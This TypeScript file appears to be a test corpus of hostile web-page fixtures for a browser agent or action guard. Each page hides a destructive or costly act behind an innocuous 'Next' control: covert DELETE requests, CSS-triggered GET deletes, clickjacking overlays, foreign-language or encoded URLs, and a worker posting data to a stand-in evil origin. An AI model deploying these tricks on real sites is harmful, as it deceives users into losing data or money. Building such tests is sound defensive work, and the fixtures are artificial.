/** VEILED_PAGES: hostile pages by sends that other parts of a page start, by rarer protocols of apps, by addresses, roles, dialogs, keys and tongues. */
import type { Single } from './kind';
import { on } from './single-parts';

const next = (code: string, setup = '') => `<button data-it>Next</button><script>${setup}</script>${on('click', code)}`;
const BOX = 'style="display:inline-block;padding:9px;min-width:90px;border:1px solid;cursor:pointer"';
const request = (body: (path: string) => string): Single => ({ by: 'request', body: ({ path }) => body(path) });
const later = (body: (path: string) => string, afterMs = 700): Single => ({ ...request(body), afterMs });
const away = (body: (to: string) => string, afterMs?: number): Single => ({
  by: 'browser',
  ...(afterMs === undefined ? {} : { afterMs }),
  body: ({ path, evil }) => body(`${evil}${path}`),
});
const gone = (path: string) => `fetch('${path}/rows/7', {method: 'DELETE'})`;
const inText = (code: string) => JSON.stringify(code).replaceAll('</', '<\\/');
const post = (path: string, body: unknown, headers = '{}') =>
  `fetch('${path}', {method: 'POST', headers: ${headers}, body: ${JSON.stringify(typeof body === 'string' ? body : JSON.stringify(body))}})`;
const api = (body: unknown, headers = '{}', tail = '/api'): Single =>
  request((path) => next(post(`${path}${tail}`, body, headers)));

const WORKER = (path: string, event = 'onmessage') =>
  `URL.createObjectURL(new Blob(["${event} = (e) => fetch('" + origin + "${path}/rows/7', {method: 'DELETE'})"]))`;

/** Another part of the page is told, or waits, and sends. */
const SENDS: Readonly<Record<string, Single>> = {
  'worker told by a number': later((path) => next('w.postMessage(1)', `w = new Worker(${WORKER(path)})`)),
  'worker told through a port': later((path) =>
    next(
      'c.port1.postMessage({})',
      `c = new MessageChannel(); w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => { e.ports[0].onmessage = () => fetch('" + origin + "${path}/rows/7', {method: 'DELETE'}) }"]))); w.postMessage(0, [c.port2])`,
    ),
  ),
  'shared worker told by a word': later((path) =>
    next(
      "w.port.postMessage('tick')",
      `w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ports: [p]}) => { p.onmessage = () => fetch('" + origin + "${path}/rows/7', {method: 'DELETE'}) }"])))`,
    ),
  ),
  'worker that hears a channel': later((path) =>
    next(
      "new BroadcastChannel('n').postMessage(0)",
      `w = new Worker(URL.createObjectURL(new Blob(["new BroadcastChannel('n').onmessage = () => fetch('" + origin + "${path}/rows/7', {method: 'DELETE'})"])))`,
    ),
  ),
  'worker that shares memory by a lock': later((path) =>
    next(
      'free()',
      `navigator.locks.request('l', () => new Promise((r) => { free = r })); w = new Worker(URL.createObjectURL(new Blob(["setTimeout(() => navigator.locks.request('l', () => fetch('" + origin + "${path}/rows/7', {method: 'DELETE'})), 30)"])))`,
    ),
  ),
  'worker that reads a database': later(
    (path) =>
      next(
        "caches.open('c').then((c) => c.put('/k', new Response('1')))",
        `caches.delete('c'); w = new Worker(URL.createObjectURL(new Blob(["setInterval(async () => { const c = await caches.open('c'); if (await c.match(location.origin + '/k')) { await c.delete(location.origin + '/k'); fetch('" + origin + "${path}/rows/7', {method: 'DELETE'}) } }, 80)"])))`,
      ),
    900,
  ),
  'fetch of a frame that is hidden early': later((path) =>
    next(
      `k('${path}/rows/7', {method: 'DELETE'})`,
      "f = document.createElement('iframe'); document.documentElement.append(f); k = f.contentWindow.fetch.bind(f.contentWindow); f.style.display = 'none'",
    ),
  ),
  'request object of a removed frame': later((path) =>
    next(
      `x = new X(); x.open('DELETE', '${path}/rows/7'); x.send()`,
      "f = document.createElement('iframe'); document.documentElement.append(f); X = f.contentWindow.XMLHttpRequest; f.remove()",
    ),
  ),
  'beacon of a removed frame': later((path) =>
    next(
      `b.call(navigator, '${path}/rows/7/delete')`,
      "f = document.createElement('iframe'); document.documentElement.append(f); b = f.contentWindow.navigator.sendBeacon; f.remove()",
    ),
  ),
  'fetch of a removed frame, called here': later((path) =>
    next(
      `k.call(window, '${path}/rows/7', {method: 'DELETE'})`,
      "f = document.createElement('iframe'); document.documentElement.append(f); k = f.contentWindow.fetch; f.remove()",
    ),
  ),
  'submit of a frame': later(
    (path) =>
      `<form id="q" method="post" action="${path}/account/close"></form>${next('s.call(q)', "f = document.createElement('iframe'); document.documentElement.append(f); s = f.contentWindow.HTMLFormElement.prototype.submit; f.remove()")}`,
  ),
  'click of a frame': later(
    (path) =>
      `<a id="q" hidden href="${path}/logout">q</a>${next('c.call(q)', "f = document.createElement('iframe'); document.documentElement.append(f); c = f.contentWindow.HTMLElement.prototype.click; f.remove()")}`,
  ),
  'picture of a style': later((path) => next(`document.body.style.backgroundImage = 'url(${path}/rows/7/delete)'`)),
  'picture of a class': later(
    (path) => `<style>.on{background:url(${path}/rows/delete?id=7)}</style>${next("document.body.className = 'on'")}`,
  ),
  'picture of a hovered rule': later(
    (path) =>
      `<style>button.b:hover,button.b:focus{background:url(${path}/rows/delete?id=7)}</style><button class="b">Next</button>`,
  ),
  'picture of a ticked box': later(
    (path) =>
      `<style>input:checked+i{background:url(${path}/rows/delete?id=7)}</style><label><input type="checkbox"><i>Compact</i></label>`,
  ),
  'rule that is inserted': later((path) =>
    next(`document.styleSheets[0].insertRule('body{background:url(${path}/rows/7/delete)}')`, ''),
  ),
  'sheet that is imported by a rule': later((path) =>
    next(
      `s = document.createElement('style'); s.textContent = '@import "${path}/rows/7/delete"'; document.head.append(s)`,
    ),
  ),
  'picture of a list': later((path) =>
    next(
      `document.body.style.cssText = 'cursor:url(${path}/rows/7/delete),auto;border-image:url(${path}/rows/8/delete) 3'`,
    ),
  ),
  'module that is imported': later((path) => next(`import('${path}/rows/7/delete').catch(() => 0)`)),
  'module that a module imports': later((path) =>
    next(
      `s = document.createElement('script'); s.type = 'module'; s.textContent = 'import "${path}/rows/7/delete"'; document.head.append(s)`,
    ),
  ),
  'module of letters': later((path) =>
    next(
      `import('data:text/javascript,' + encodeURIComponent("fetch('" + origin + "${path}/rows/7', {method:'DELETE'})"))`,
    ),
  ),
  'animation that ends later': later(
    (path) => next(`document.body.animate([{opacity: .99}, {opacity: 1}], 900).onfinish = () => ${gone(path)}`),
    1_400,
  ),
  'promise of an animation': later(
    (path) => next(`document.body.animate([{opacity: .99}, {opacity: 1}], 900).finished.then(() => ${gone(path)})`),
    1_400,
  ),
  'signal that times out': later((path) => next(`AbortSignal.timeout(900).onabort = () => ${gone(path)}`), 1_400),
  'waiting that memory ends': later(
    (path) =>
      next(
        `(a => a && Atomics.waitAsync(a, 0, 0, 900).value.then(() => ${gone(path)}))(window.SharedArrayBuffer ? new Int32Array(new SharedArrayBuffer(8)) : new Int32Array(new WebAssembly.Memory({initial: 1, maximum: 1, shared: true}).buffer))`,
      ),
    1_400,
  ),
  'worker that only waits': later(
    (path) =>
      next(
        'w.postMessage(900)',
        `w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => setTimeout(() => postMessage(1), e.data)"]))); w.onmessage = () => ${gone(path)}`,
      ),
    1_500,
  ),
  'file that is read': later((path) =>
    next(`r = new FileReader(); r.onload = () => ${gone(path)}; r.readAsText(new Blob(['x']))`),
  ),
  'drawing that becomes a file': later((path) => next(`document.createElement('canvas').toBlob(() => ${gone(path)})`)),
  'lock that comes free': later((path) => next(`navigator.locks.request('x', () => ${gone(path)})`)),
  'database that answers': later((path) =>
    next(`indexedDB.open('d' + Math.random()).onupgradeneeded = () => ${gone(path)}`),
  ),
  'digest that is computed': later((path) =>
    next(`crypto.subtle.digest('SHA-256', new Uint8Array(4e7)).then(() => ${gone(path)})`),
  ),
  'mark that is measured': later((path) =>
    next("performance.mark('x')", `new PerformanceObserver(() => ${gone(path)}).observe({entryTypes: ['mark']})`),
  ),
  'stream that is pulled': later((path) =>
    next(`new ReadableStream({ pull(c) { c.close(); ${gone(path)} } }, {highWaterMark: 0}).getReader().read()`),
  ),
  'element that is connected': later(
    (path) =>
      next(
        "document.body.append(document.createElement('x-late'))",
        `customElements.define('x-late', class extends HTMLElement { connectedCallback() { setTimeout(() => ${gone(path)}, 600) } })`,
      ),
    1_200,
  ),
  'view that is exchanged': later(
    (path) => next(`document.startViewTransition(() => {}).finished.then(() => ${gone(path)})`),
    1_200,
  ),
  'sound that ends': later(
    (path) =>
      next(
        `a = new Audio('data:audio/wav;base64,UklGRkQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YSAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=='); a.onended = a.onerror = () => ${gone(path)}; a.play().catch(() => 0)`,
      ),
    900,
  ),
  'scroll that ends': later(
    (path) =>
      `<div style="height:3000px">x</div>${next("scrollTo({top: 900, behavior: 'smooth'})", `document.onscrollend = () => ${gone(path)}`)}`,
    1_800,
  ),
  'poll of a value': later(
    (path) =>
      `<input id="v" type="hidden" value="0">${next("v.value = '1'", `setInterval(() => { if (v.value === '1') { v.value = '0'; ${gone(path)} } }, 400)`)}`,
    1_200,
  ),
  'poll of a value in the address': later(
    (path) =>
      next(
        "history.replaceState(0, '', '?go=1')",
        `setInterval(() => { if (location.search) { history.replaceState(0, '', location.pathname); ${gone(path)} } }, 500)`,
      ),
    1_300,
  ),
  'title that a frame reads': later(
    (path) =>
      next(
        "document.title = 'go'",
        `f = document.createElement('iframe'); f.srcdoc = ${inText(`<script>setInterval(() => { if (parent.document.title === 'go') { parent.document.title = ''; ${gone(path)} } }, 300)</script>`)}; document.documentElement.append(f)`,
      ),
    1_000,
  ),
  'minute later': { ...later((path) => next(`setTimeout(() => ${gone(path)}, 3500)`), 4_200) },
  'answer that is awaited': later(
    (path) =>
      next(
        `(async () => { await (await fetch('/benign')).text(); await new Promise((r) => setTimeout(r, 700)); ${gone(path)} })()`,
      ),
    1_500,
  ),
};

/** Requests of rarer protocols: the act is said where few look. */
const PROTOCOLS: Readonly<Record<string, Single>> = {
  'header of a service': api(
    { TableName: 'notes', Key: { id: { S: '7' } } },
    "{'X-Amz-Target': 'DynamoDB_20120810.DeleteItem'}",
    '/',
  ),
  'action in a header of envelopes': api('<Envelope/>', "{SOAPAction: 'urn:DeleteAccount'}"),
  'action in a header of its own': api({ id: 7 }, "{'X-Action': 'purge'}"),
  'call of a component': api({
    fingerprint: { name: 'rows' },
    updates: [{ type: 'callMethod', payload: { method: 'deleteRow', params: [7] } }],
  }),
  'event of a live view': api([
    '4',
    '7',
    'lv:phx-1',
    'event',
    { type: 'click', event: 'remove_member', value: { id: 7 } },
  ]),
  'target of an event': request((path) =>
    next(
      post(
        `${path}/list.aspx`,
        '__EVENTTARGET=ctl00%24main%24btnDelete&__EVENTARGUMENT=7',
        "{'Content-Type': 'application/x-www-form-urlencoded'}",
      ),
    ),
  ),
  'procedure in an address': api({ 0: { json: { id: 7 } } }, '{}', '/trpc/post.deleteById?batch=1'),
  'bound function of a set': api({}, '{}', '/odata/Leads(7)/Default.Reject'),
  'query that removes': api({ query: { match_all: {} } }, '{}', '/notes/_delete_by_query'),
  'document marked as gone': request((path) =>
    next(`fetch('${path}/db/7', {method: 'PUT', body: '{"_id":"7","_deleted":true}'})`),
  ),
  'override in the query': api({}, '{}', '/notes/7.json?x-http-method-override=DELETE'),
  'state that is ended': request((path) =>
    next(`fetch('${path}/contracts/7', {method: 'PATCH', body: '{"state":"terminated"}'})`),
  ),
  'account made inactive': request((path) =>
    next(`fetch('${path}/users/7', {method: 'PATCH', body: '{"isActive":false}'})`),
  ),
  'shared with another': api({ file: 7, grantee: 'bob@example.org', access: 'write' }),
  'recipients and a text': api({ recipients: ['bob@example.org'], subject: 'Rye', body: 'bread' }),
  'card that is charged': api({ amount: 4900, currency: 'eur', source: 'tok_1' }, '{}', '/v1/charges'),
  'ordered by a body': api({ items: [{ sku: 'rye', qty: 3 }], placeOrder: true }),
  'steps in a list': api({
    requests: [
      { method: 'GET', url: '/a' },
      { method: 'DELETE', url: '/rows/7' },
    ],
  }),
  'parts of a batch': api(
    '--b\r\nContent-Type: application/http\r\n\r\nDELETE /rows/7 HTTP/1.1\r\n\r\n--b--',
    "{'Content-Type': 'multipart/mixed; boundary=b'}",
  ),
  'operation in camel case': api({ operation: 'bulkArchiveAndPurgeRows', ids: [7] }),
  'numbers for letters': request((path) =>
    next(
      `fetch('${path}/api', {method: 'POST', body: Uint8Array.from(${JSON.stringify([...Buffer.from('\u0082\u00a6action\u00a6delete\u00a2id\u0007', 'latin1')])})})`,
    ),
  ),
  'text in another width': request((path) =>
    next(
      `fetch('${path}/api', {method: 'POST', body: new Uint8Array(new Uint16Array([...'{"action":"delete"}'].map((c) => c.charCodeAt(0))).buffer)})`,
    ),
  ),
  'address in capitals': request((path) => next(`fetch('${path}/API/ROWS/7/DELETE', {method: 'POST'})`)),
  'address in codes': request((path) => next(`fetch('${path}/rows/7/%64%65%6C%65%74%65', {method: 'POST'})`)),
  'address in codes of codes': request((path) => next(`fetch('${path}/rows/7/%2564%2565lete', {method: 'POST'})`)),
  'address with a suffix': request((path) =>
    next(`fetch('${path}/rows/deleteRow.do;jsessionid=A1?id=7', {method: 'POST'})`),
  ),
  'Japanese address': request((path) => next(`fetch('${path}/記事/7/削除', {method: 'POST'})`)),
  'Russian address': request((path) => next(`fetch('${path}/zapisi/7/udalit', {method: 'POST'})`)),
  'switch of a thing in a house': request((path) => next(`fetch('${path}/locks/front/unlock', {method: 'PUT'})`)),
  'framework that asks by attributes': request(
    (path) =>
      `<button hx-delete="${path}/rows/7" data-it>Next</button>${on('click', `fetch(event.currentTarget.getAttribute('hx-delete'), {method: 'DELETE', headers: {'HX-Request': 'true'}})`)}`,
  ),
};

const link = (tail: string, name: string): Single => request((path) => `<a href="${path}${tail}">${name}</a>`);
/** Links and forms by GET that act. */
const ADDRESSES: Readonly<Record<string, Single>> = {
  'to: consent': link('/oauth/authorize?client=x&approve=1', 'Apps'),
  'to: place after the end': link('/go?next=%2Flogout', 'Home'),
  'to: bin of a blog': link('/wp-admin/post.php?post=3&action=trash&_wpnonce=ab', 'Post 3'),
  'to: end in a bare query': link('/?logout', 'Home'),
  'to: basket': link('/cart/add/55?qty=2', 'Rye'),
  'to: vote': link('/polls/3/vote/2', 'Rye'),
  'to: following': link('/u/bob/follow', 'Bob'),
  'to: short words': link('/rm/7', 'Row 7'),
  'to: shorter words': link('/del.php?i=7', 'Row 7'),
  'to: killing': link('/a.cgi?act=kill&pid=4', 'Process 4'),
  'to: relay': link('/relay/3/on', 'Relay 3'),
  'to: Portuguese end': link('/conta/sair', 'Conta'),
  'to: Czech end': link('/ucet/odhlasit', 'Účet'),
  'to: Turkish order': link('/siparis/7/iptal', 'Sipariş 7'),
  'to: Swedish deletion': link('/inlagg/7/ta-bort', 'Inlägg 7'),
  'to: Dutch deletion': link('/berichten/7/verwijderen', 'Bericht 7'),
  'to: French ending': link('/abonnement/resilier', 'Abonnement'),
  'to: Italian payment': link('/ordini/7/paga', 'Ordine 7'),
  'to: Hungarian deletion': link('/bejegyzes/7/torles', 'Bejegyzés 7'),
  'to: Indonesian deletion': link('/catatan/7/hapus', 'Catatan 7'),
  'to: Russian end': link('/vyhod', 'Главная'),
  'to: parameters of a part': link('/account;do=close', 'Account'),
  'to: dots in between': link('/a/../log%6Fut', 'Home'),
  'to: capitals': link('/LogOut.ASPX', 'Home'),
  'to: numbers': link('/app?cmd=7&confirm=yes', 'Item 7'),
  'form by GET with an act': request(
    (path) => `<form action="${path}/rows"><input type="hidden" name="do" value="remove"><button>Next</button></form>`,
  ),
  'form by GET with a thing to delete': request(
    (path) => `<form action="${path}/rows"><input type="hidden" name="delete[]" value="7"><button>Next</button></form>`,
  ),
  'button of a form by its name': request(
    (path) => `<form method="post" action="${path}/rows"><button name="terminate" value="7">Next</button></form>`,
  ),
  'form of the bin by a label': request(
    (path) =>
      `<form method="post" action="${path}/rows/7/delete"><input type="submit" id="s" style="position:absolute;opacity:0" value="x"></form><label for="s" ${BOX}>Next page</label>`,
  ),
};

/** Ways to another origin. */
const AWAY: Readonly<Record<string, Single>> = {
  'base elsewhere': away((to) => `<base href="${to}/"><a href="list">Next</a>`),
  'base elsewhere for a form': away(
    (to) =>
      `<base href="${to}/"><form action="list"><input type="hidden" name="d" value="4711"><button>Next</button></form>`,
  ),
  'form in a frame of its own': away(
    (to) =>
      `<iframe width="200" height="80" srcdoc='<form action="${to}"><input type="hidden" name="d" value="4711"><button>Next</button></form>'></iframe>`,
  ),
  'window after a while': away((to) => next(`setTimeout(() => open('${to}'), 600)`), 1_200),
  'place replaced after a while': away((to) => next(`setTimeout(() => location.replace('${to}'), 600)`), 1_200),
  'form in a new window after a while': away(
    (to) => `<form id="q" target="_blank" action="${to}"></form>${next('setTimeout(() => q.submit(), 500)')}`,
    1_200,
  ),
  'Enter in a field': away((to) => `<form action="${to}"><label>Ideas <input name="q"></label></form>`),
  'top from a frame': away(
    (to) =>
      `<iframe width="200" height="80" srcdoc='<button onclick="top.location = &quot;${to}&quot;">Next</button>'></iframe>`,
  ),
  'link without its scheme': away((to) => `<a href="${to.replace(/^https?:/, '')}">Next</a>`),
  'link with a name in it': away((to) => `<a href="${to.replace('://', '://localhost@')}">Next</a>`),
  'worker that posts elsewhere': away(
    (to) =>
      next(
        `new Worker(URL.createObjectURL(new Blob(["fetch('${to}', {method:'POST', mode:'no-cors', body:'d=4711'})"])))`,
      ),
    500,
  ),
};

const press = (hit: string, inside: string, attributes = '', tag = 'button') =>
  `<${tag} data-it ${attributes}>${inside}</${tag}>${on('click', hit)}`;
const control = (body: (hit: string, path: string) => string, lang = 'en'): Single => ({
  by: 'control',
  lang,
  body: ({ hit, path }) => body(hit, path),
});

/** Roles, fields, dialogs and events whose act only a look at the place tells. */
const PLACES: Readonly<Record<string, Single>> = {
  'link role': control((hit) => press(hit, 'Terminate the lease', `role="link" tabindex="0" ${BOX}`, 'span')),
  'head of a column': control(
    (hit) => `<table><tr><th tabindex="0" aria-sort="none" data-it>Purge all rows</th></tr></table>${on('click', hit)}`,
  ),
  'number of a bid': control(
    (hit) =>
      `<div role="spinbutton" tabindex="0" aria-label="Raise the bid" aria-valuenow="1" data-it ${BOX}>1</div>${on('keydown', hit)}${on('click', hit)}`,
  ),
  'search box that is a message': control(
    (hit) => `<input type="search" aria-label="Message to Ann" data-it>${on('keydown', hit, "event.key === 'Enter'")}`,
  ),
  'item of a menu with a mark': control(
    (hit) =>
      `<div role="menu"><div role="menuitemradio" aria-checked="false" tabindex="0" data-it ${BOX}>Ban this member</div></div>${on('click', hit)}`,
  ),
  'picture that is pressed': control((hit) =>
    press(hit, '', `role="img" tabindex="0" aria-label="Sell everything" ${BOX}`, 'div'),
  ),
  'bar that is pressed': control((hit) =>
    press(hit, 'x', `role="progressbar" tabindex="0" aria-label="Release the funds" ${BOX}`, 'div'),
  ),
  'drawing area': control((hit) =>
    press(hit, '', 'tabindex="0" aria-label="Launch the drone" width="90" height="40"', 'canvas'),
  ),
  'colour that paints all': control(
    (hit) => `<label>Repaint and publish <input type="color" data-it></label>${on('input', hit)}`,
  ),
  'time that books': control((hit) => `<label>Book at <input type="time" data-it></label>${on('change', hit)}`),
  'list of words that orders': control(
    (hit) =>
      `<label>Order now <input list="l" data-it><datalist id="l"><option value="Rye"></datalist></label>${on('input', hit)}`,
  ),
  'choice that closes': control(
    (hit) =>
      `<select aria-label="State" data-it><option>Open</option><option>Sold and handed over</option></select>${on('change', hit, 'event.target.selectedIndex === 1')}`,
  ),
  'choice by its value': control(
    (hit) =>
      `<select aria-label="Row 7" data-it><option value="keep">Keep</option><option value="destroy">Tidy</option></select>${on('change', hit, "event.target.value === 'destroy'")}`,
  ),
  'choice by the name of its field': control(
    (hit) =>
      `<select name="refund_amount" aria-label="Amount" data-it><option>0</option><option>50</option></select>${on('change', hit)}`,
  ),
  'several choices': control(
    (hit) =>
      `<select multiple aria-label="Rows" data-it><option>Row 1</option><option>Wipe the disk</option></select>${on('change', hit, 'event.target.selectedOptions[0]?.index === 1')}`,
  ),
  'box that is the act': control(
    (hit) => `<label><input type="checkbox" data-it> Make me visible to everybody</label>${on('click', hit)}`,
  ),
  'range that lends': control(
    (hit) => `<label>Lend Bob <input type="range" value="0" max="9" data-it></label>${on('input', hit)}`,
  ),
  'words to be typed': control(
    (hit) =>
      `<label>Type BREAD to give up your place <input data-it></label>${on('input', hit, "event.target.value.toLowerCase() === 'bread'")}`,
  ),
  'amount to be wired': control((hit) => `<label>Amount to wire now <input data-it></label>${on('change', hit)}`),
  'question over plain words': control(
    (hit) => `<h2>Leave the group?</h2><p>Your posts go with you.</p>${press(hit, 'Go on')}<button>Back</button>`,
  ),
  'question with links': control(
    (hit) => `<p>Give your seat to Bob?</p>${press(hit, 'Continue', 'href="#a"', 'a')} <a href="#b">Back</a>`,
  ),
  'question in German': control(
    (hit) =>
      `<div role="dialog" aria-label="Hinweis"><p>Damit ist der Vertrag beendet.</p>${press(hit, 'Weiter')}<button>Zurück</button></div>`,
    'de',
  ),
  'question described afar': control(
    (hit) =>
      `<p id="w" style="margin-bottom:300px">All 320 files go for good.</p><div role="alertdialog" aria-describedby="w">${press(hit, 'Next')}<button>Back</button></div>`,
  ),
  'question in French': control(
    (hit) => `<dialog open><h3>Se désabonner ?</h3>${press(hit, 'Suivant')}<button>Retour</button></dialog>`,
    'fr',
  ),
  'step of a wizard': control(
    (hit) =>
      `<ol><li>Basket</li><li>Address</li><li aria-current="step">Payment</li></ol><p>Total: $49.00</p>${press(hit, 'Next')}`,
  ),
  'hover that pays': control(
    (hit) => `<div tabindex="0" role="button" data-it ${BOX}>Hover to tip $5</div>${on('mouseover', hit)}`,
  ),
  'dragged to a rota': control(
    (hit) =>
      `<div draggable="true" tabindex="0" role="button" aria-label="Ann" ${BOX}>Ann</div><div role="group" tabindex="0" aria-label="Dismissed staff" data-it ${BOX}>Dismissed staff</div>${on('dragover', 'event.preventDefault()')}${on('drop', hit)}`,
  ),
  'dragged by the pointer': control(
    (hit) =>
      `<div tabindex="0" role="button" aria-label="Invoice 7" ${BOX}>Invoice 7</div><div tabindex="0" role="button" aria-label="Recycle bin" data-it ${BOX}>Recycle bin</div>${on('pointerup', hit)}`,
  ),
  'dragged knob': control(
    (hit) =>
      `<div role="slider" tabindex="0" aria-label="Slide to unlock the door" aria-valuenow="0" aria-valuemax="9" data-it ${BOX}>»</div><div role="button" tabindex="0" aria-label="end" ${BOX}>end</div>${on('pointerdown', hit)}`,
  ),
  'whole page that is edited': control(
    (hit) =>
      `<div contenteditable data-it><p>Dear Ann</p></div><script>document.designMode = 'on'</script>${on('keydown', hit, "event.key === 'Enter'")}<p>Press Enter to send</p>`,
  ),
  'swapped between down and up': control(
    (hit) =>
      `<div data-it><button id="b">Details</button></div>${on('mousedown', `b.outerHTML = '<button id=c>Resign</button>'; c.onmouseup = () => { ${hit} }`)}`,
  ),
  'drawn words over a button': control(
    (hit) =>
      `<div style="position:relative">${press(hit, 'Details', 'style="width:160px;height:40px"')}<svg width="160" height="40" style="position:absolute;left:0;top:0;pointer-events:none"><rect width="160" height="40" fill="#fff"/><text y="20">Delete all</text></svg></div>`,
  ),
  'words of a wrapper over a button': control(
    (hit) =>
      `<style>.w{position:relative;display:inline-block}.w::after{content:'Give away';position:absolute;inset:0;background:#fff;pointer-events:none}</style><div class="w">${press(hit, 'Details')}</div>`,
  ),
  'described act': control((hit) => press(hit, 'Next', 'aria-description="Sends the order to the kitchen"')),
  'act in a hint': control((hit) => press(hit, 'Next', 'title="Cancels your flight"')),
  'act in a role description': control((hit) => press(hit, 'Next', 'aria-roledescription="delete button"')),
  'icon by its address': control((hit) =>
    press(hit, '<img alt="" src="/static/icons/bin.svg" width="20" height="20">', 'aria-label="›"'),
  ),
  'icon by its picture': control((hit) =>
    press(hit, '<svg width="16" height="16" class="lucide-trash-2"><path d="M3 6h18"/></svg>', 'aria-label="…"'),
  ),
  'icon by a ligature': control((hit) =>
    press(hit, '<i class="material-symbols-outlined" style="font-size:20px">send_money</i>'),
  ),
};

const BLUNT = [
  'Do it',
  'Yes, all of it',
  'Proceed anyway',
  'I understand the risk',
  'Hand over',
  'Top up',
  'Bid',
  'Reply all',
  'Nudge everyone',
  'Endorse',
  'Claim',
  'Redeem',
  'Mint',
  'Stake',
  'Swap 5 ETH',
  'Merge',
  'Deploy',
  'Roll back',
  'Reboot',
  'Flash',
  'Arm',
  'Ignite',
  'Eject',
  'Unpair',
  'Demote',
  'Waive',
  'I do',
  'Escalate',
  'Report',
  'Unfriend',
  'Unmatch',
  'Concede',
  'Fold',
  'Search and seize',
  'Show Bob my salary',
  'Open account',
  'View to a kill switch',
  'Details to the press',
  'Sort out the payment',
  'Filter dead accounts out for good',
  'More money to Bob',
  'Back the project with $20',
  'Refresh subscription',
  'Expand my plan',
  'Copy to all employees',
  'Load the truck',
  'Close position',
]; // prettier-ignore
const TONGUES: Readonly<Record<string, readonly string[]>> = {
  de: [
    'Weiter und bezahlen',
    'Zurück an den Absender schicken',
    'Jetzt zuschlagen',
    'Weg damit',
    'Zusagen',
    'Für alle öffnen',
    'Mehr bestellen',
    'Schließen des Kontos',
    'Ansehen und kaufen',
    'Los',
  ],
  fr: [
    "C'est parti",
    'Je prends',
    'Rejoindre',
    'Fermer mon compte',
    'Afficher à tout le monde',
    'Suivant : payer',
    'Retour au vendeur',
    'Ouvrir aux visiteurs',
    'Je participe',
    'Valider',
  ],
  es: [
    'Me apunto',
    'Darse de baja',
    'Ver y pagar',
    'Guardar y enviar',
    'Abrir a todos',
    'Siguiente pago',
    'Cerrar la cuenta',
    'Adelante',
    'Dar por perdido',
    'Soltar',
  ],
  it: ["Avanti con l'ordine", 'Butta via', 'Aderisci', 'Chiudi il conto', 'Apri a tutti'],
  ja: ['申し込む', '退会する', '次へ(購入確定)', '公開', '決定'],
  zh: ['下一步并支付', '注销', '提交', '打开大门', '关闭账户'],
  af: ['Vee uit', 'Betaal', 'Stuur', 'Teken uit', 'Gaan voort'],
  ga: ['Scrios', 'Íoc', 'Seol', 'Logáil amach', 'Foilsigh'],
  mt: ['Ħassar', 'Ħallas', 'Ibgħat', 'Oħroġ', 'Ippubblika'],
  az: ['Sil', 'Ödə', 'Göndər', 'Çıxış', 'Dərc et'],
  so: ['Tirtir', 'Bixi', 'Dir', 'Ka bax', 'Daabac'],
  te: ['తొలగించు', 'చెల్లించు', 'పంపు', 'నిష్క్రమించు', 'ప్రచురించు'],
  gu: ['કાઢી નાખો', 'ચૂકવો', 'મોકલો', 'સાઇન આઉટ', 'પ્રકાશિત કરો'],
  ky: ['Өчүрүү', 'Төлөө', 'Жөнөтүү', 'Чыгуу', 'Жарыялоо'],
  eo: ['Forigi', 'Pagi', 'Sendi', 'Elsaluti', 'Eldoni'],
  ht: ['Efase', 'Peye', 'Voye', 'Dekonekte', 'Pibliye'],
}; // prettier-ignore
const GROUP = 5;
const buttons = (names: readonly string[], path: string) =>
  names.map((name, at) => `<button onclick="fetch('${path}/${at}', {method: 'POST'})">${name}</button> `).join('');
function inGroups(id: string, names: readonly string[], lang: string): Record<string, Single> {
  return Object.fromEntries(
    Array.from({ length: Math.ceil(names.length / GROUP) }, (_, at) => [
      `${id}, ${at + 1}`,
      control((_hit, path) => buttons(names.slice(at * GROUP, (at + 1) * GROUP), path), lang),
    ]),
  );
}

export const VEILED_PAGES: Readonly<Record<string, Single>> = {
  ...SENDS,
  ...PROTOCOLS,
  ...ADDRESSES,
  ...AWAY,
  ...PLACES,
  ...inGroups('blunt words', BLUNT, 'en'),
  ...Object.fromEntries(
    Object.entries(TONGUES).flatMap(([lang, names]) => Object.entries(inGroups(`said in ${lang}`, names, lang))),
  ),
};
